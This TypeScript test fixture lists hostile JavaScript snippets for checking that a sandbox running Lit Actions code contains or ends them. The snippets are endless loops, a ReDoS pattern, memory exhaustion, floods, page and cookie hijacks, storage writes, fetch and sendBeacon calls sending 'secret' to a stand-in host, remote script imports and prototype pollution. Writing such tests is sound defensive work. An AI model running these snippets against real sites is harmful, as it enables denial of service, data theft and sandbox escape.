/** An action that tries to do harm; one that is endless has to be ended. */
export interface HostileAction {
  code: string;
  isEndless?: true;
}

const endless = [
  'for (;;);',
  'while (true) Math.sqrt(2);',
  '(function again() { for (;;) try { again(); } catch { /* go on */ } })();',
  'setInterval(() => {}, 1);',
  '(async () => { for (;;) await null; })();',
  'new Promise(() => setTimeout(function again() { setTimeout(again, 0); }, 0));',
  '/(a+)+$/.test(`${"a".repeat(60)}b`);',
].map((code): HostileAction => ({code, isEndless: true}));

const others = [
  // Memory
  'Lit.Actions.setResponse({response: String(new Uint8Array(1e9).length)});',
  'const all = []; for (let i = 0; i < 64; i++) all.push(new Uint8Array(16e6));',
  '"x".repeat(2 ** 29).length;',
  'let text = "x"; for (;;) text += text;',
  'new Array(2 ** 32 - 1).join("x");',
  'new ArrayBuffer(1e15);',
  '(function again() { again(); })();',
  'Lit.Actions.call({params: new Uint8Array(1e9)});',
  'Lit.Actions.call({params: new Array(1e8)});',
  'Lit.Actions.signEcdsa({toSign: {length: 1e9}, publicKey, sigName: "s"});',
  'Lit.Actions.signEcdsa({toSign: new Array(1e9), publicKey, sigName: "s"});',
  // Floods
  'for (;;) console.log("x".repeat(1000));',
  'for (;;) console.log("");',
  'for (let i = 0; i < 1e5; i++) postMessage(i);',
  'for (let i = 0; i < 300; i++) Lit.Actions.checkConditions({conditions: [], authSig: {}, chain: "x"});',
  '(async () => { for (let i = 0; i < 100; i++) await fetch("https://a.test/"); })();',
  'for (let i = 0; i < 1000; i++) Lit.Actions.setResponse({response: "x".repeat(100000)});',
  'Lit.Actions.setResponse({response: "x".repeat(1e8)});',
  'for (let i = 0; i < 20; i++) Lit.Actions.signEcdsa({toSign: new Uint8Array(32), publicKey, sigName: `s${i}`});',
  // The page
  'parent.document.title = "taken";',
  'top.location = "https://a.test/";',
  'window.open("https://a.test/");',
  'self.location = "https://a.test/";',
  'location.href = "https://a.test/";',
  'document.cookie = "taken=1";',
  'opener.alert(1);',
  'alert(1);',
  'history.back();',
  'self.onmessage = self.onerror = () => {}; self.close();',
  'dispatchEvent(new Event("message"));',
  // Storage
  'localStorage.setItem("taken", 1);',
  'sessionStorage.taken = 1;',
  'indexedDB.open("taken");',
  'caches.open("taken");',
  'navigator.storage.getDirectory();',
  'cookieStore.set("taken", "1");',
  // Network
  'fetch("https://a.test/", {method: "POST", body: "secret"});',
  'new XMLHttpRequest().open("GET", "/");',
  'new WebSocket("wss://a.test/");',
  'new EventSource("https://a.test/");',
  'new RTCPeerConnection();',
  'navigator.sendBeacon("https://a.test/", "secret");',
  'importScripts("https://a.test/x.js");',
  'import("https://a.test/x.js");',
  'import("data:text/javascript,1");',
  'import("/action-frame/frame.js");',
  'new Worker("data:text/javascript,1");',
  'new SharedWorker("https://a.test/x.js");',
  'navigator.serviceWorker.register("/x.js");',
  'new Worker(URL.createObjectURL(new Blob(["for (;;);"])));',
  'new BroadcastChannel("x").postMessage(1);',
  'new Image().src = "https://a.test/";',
  // Downloads
  'Object.assign(document.createElement("a"), {href: "data:,x", download: "x"}).click();',
  'self.location = URL.createObjectURL(new Blob(["x"]));',
  // Code of texts
  'eval("1");',
  'new Function("return 1")();',
  '(async () => {}).constructor("return 1")();',
  // Prototypes
  'Object.prototype.type = "end"; Object.prototype.text = "taken"; console.log(1);',
  'Object.prototype.toJSON = () => { throw 1; }; Lit.Actions.setResponse({response: "x"});',
  'MessagePort.prototype.postMessage = function () { this.taken = 1; }; console.log(1);',
  'Function.prototype.call = Function.prototype.apply = () => { throw 1; }; console.log(1);',
  'Promise.prototype.then = () => { throw 1; }; (async () => { await fetch("https://a.test/"); })();',
  'Array.prototype.push = Array.prototype.map = Map.prototype.get = () => { throw 1; }; console.log({a: [1]});',
  'Error.prepareStackTrace = () => "taken"; throw new Error("x");',
  'throw {get message() { throw 1; }, get name() { throw 1; }};',
  'throw new Proxy({}, {has: () => { throw 1; }, get: () => { throw 1; }});',
  'console.log(new Proxy({}, {ownKeys: () => { throw 1; }, getPrototypeOf: () => { throw 1; }}));',
  'Object.defineProperty(globalThis, "Lit", {get: () => { throw 1; }}); Lit;',
  'Lit.Actions.signEcdsa = () => {}; Lit.Auth.authSigAddress = "0x1"; Lit.Auth.authSigAddress.x;',
  // Names that objects have
  'Lit.Actions.signEcdsa({toSign: new Uint8Array(32), publicKey, sigName: "__proto__"});',
  'fetch("__proto__").catch(() => fetch("https://a.test/constructor"));',
  'Lit.Actions.call({ipfsId: "__proto__"});',
].map((code): HostileAction => ({code}));

/** Attempts at the page, its reader and their machine, each of which has to end with one line. */
export const HOSTILE_ACTIONS: readonly HostileAction[] = [...endless, ...others];
